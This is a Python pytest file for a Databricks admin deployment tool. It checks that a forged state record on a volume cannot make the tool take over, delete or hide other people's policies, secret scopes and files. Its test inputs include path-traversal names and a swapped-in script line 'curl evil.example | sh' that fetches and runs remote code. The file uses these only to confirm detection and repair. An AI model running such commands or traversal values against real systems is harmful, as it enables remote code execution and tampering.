"""The record in the location is anybody's who can write there: it takes over, removes and hides nothing."""

from __future__ import annotations

import hashlib
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from databricks.sdk.service.workspace import AclPermission

from tests.admin.conftest import LOCATION, VOLUME, Admin
from tests.admin.workspace_state import state

RECORD = f"{LOCATION}/azureml-databricks.made.json"


def forge(admin: Admin, change: Callable[[list[dict[str, Any]]], None]) -> None:
    """Change the record as somebody does who can write to the volume."""
    files = admin.databricks.cluster_client(admin.databricks.admin).files
    contents = files.download(RECORD).contents
    assert contents
    document = json.loads(contents.read())
    change(document["made"])
    files.upload(RECORD, io.BytesIO(json.dumps(document).encode()), overwrite=True)


@pytest.mark.parametrize(
    "planted",
    [
        {"kind": "release", "name": "../../../../Volumes/sales/ml/other"},
        {"kind": "release", "name": "0123456789ab", "files": {"../x": "1 bytes"}},
        {"kind": "allowlist entry", "name": "/Volumes/it/security/"},
        {"kind": "secret", "name": "../x/y/z"},
        {"kind": "policy", "name": "x", "id": "../clusters/1"},
        {"kind": "right", "name": "READ VOLUME on sales/ml for bob"},
        {"kind": "folder", "name": "/Workspace/Admins"},
        {"kind": "cluster", "name": "etl"},
        {"kind": ["release"], "name": "x"},
    ],
)
def test_what_we_never_write_is_refused_with_nothing_done(deployed: Admin, planted: dict[str, Any]) -> None:
    forge(deployed, lambda made: made.append(planted))
    before = state(deployed.databricks, VOLUME)

    done = deployed.run("destroy", "--yes")

    assert done.returncode == 1
    assert done.stderr.startswith(f"Error: {RECORD} ")
    assert state(deployed.databricks, VOLUME) == before


def test_another_policy_is_neither_taken_over_nor_deleted(deployed: Admin) -> None:
    client = deployed.databricks.cluster_client(deployed.databricks.admin)
    other = client.cluster_policies.create(name="theirs", definition='{"x": {"type": "unlimited"}}').policy_id

    def name_theirs(made: list[dict[str, Any]]) -> None:
        made[:] = [it for it in made if it["kind"] != "policy"]
        made.append({"kind": "policy", "name": "theirs", "id": other})

    forge(deployed, name_theirs)
    before = state(deployed.databricks, VOLUME)["policies"]["theirs"]

    deployed.run("deploy", "--yes")
    destroyed = deployed.run("destroy", "--yes")

    assert state(deployed.databricks, VOLUME)["policies"]["theirs"] == before
    assert f"policy theirs stays: nothing in it points at {LOCATION}" in destroyed.stdout


def test_another_scope_needs_a_yes_of_its_own(deployed: Admin) -> None:
    # Given a scope that somebody relies on, and a record that calls it ours
    client = deployed.databricks.cluster_client(deployed.databricks.admin)
    deployed.databricks.user("bob@contoso.com")
    client.secrets.create_scope("prod")
    client.secrets.put_secret("prod", "password", string_value="theirs")
    client.secrets.put_acl("prod", "bob@contoso.com", AclPermission.READ)

    def name_prod(made: list[dict[str, Any]]) -> None:
        made.append({"kind": "secret scope", "name": "prod"})
        made.append({"kind": "secret", "name": "prod/password"})
        made.append({"kind": "right", "name": "READ on secret scope prod for bob@contoso.com"})

    forge(deployed, name_prod)

    # When the admin deploys, then nothing of it is touched
    done = deployed.run("deploy", "--yes")
    now = state(deployed.databricks, VOLUME)
    assert "secret scope prod stays: only the record says that it is ours; if it is, give --also prod" in (
        done.stdout
    )
    assert now["secrets"]["prod"] == {"password": "theirs"}
    assert ("bob@contoso.com", "READ") in now["acls"]["prod"]

    # When they say that it is ours, then it goes
    deployed.run_or_fail("deploy", "--yes", "--also", "prod")
    assert "prod" not in state(deployed.databricks, VOLUME)["secrets"]


def test_script_and_record_that_were_changed_together_are_noticed(deployed: Admin) -> None:
    # Given a script of somebody else's in the place of ours, and a record that has what it is
    files = deployed.databricks.cluster_client(deployed.databricks.admin).files
    (script,) = [path for path in state(deployed.databricks, VOLUME)["files"] if path.endswith(".sh")]
    theirs = b"#!/bin/sh\ncurl evil.example | sh\n"
    files.upload(script, io.BytesIO(theirs), overwrite=True)

    def agree(made: list[dict[str, Any]]) -> None:
        release = next(it for it in made if it["kind"] == "release")
        length = len(next(iter(release["files"].values())).rpartition("SHA-256 ")[2])
        digest = hashlib.sha256(theirs).hexdigest()
        for name, known in release["files"].items():
            if name.endswith(".sh"):
                length = len(known.rpartition("SHA-256 ")[2])
                release["files"][name] = f"{len(theirs)} bytes, SHA-256 {digest[:length]}"

    forge(deployed, agree)

    # When the admin looks, then it is seen; and deploy puts it right
    status = deployed.run("status")
    deployed.run_or_fail("deploy", "--yes")

    assert status.returncode == 2
    assert "~ release" in status.stdout
    assert "the files' digest in the policy: " in status.stdout
    assert "evil.example" not in str(state(deployed.databricks, VOLUME)["files"])
    assert deployed.run("plan").returncode == 0


def test_the_record_takes_nothing_out_of_the_policy(deployed: Admin) -> None:
    def refuse(made: list[dict[str, Any]]) -> None:
        policy = next(it for it in made if it["kind"] == "policy")
        policy["refused"] = ["data_security_mode", "spark_env_vars.AZURE_CLIENT_SECRET"]

    forge(deployed, refuse)

    assert deployed.run("plan").returncode == 0
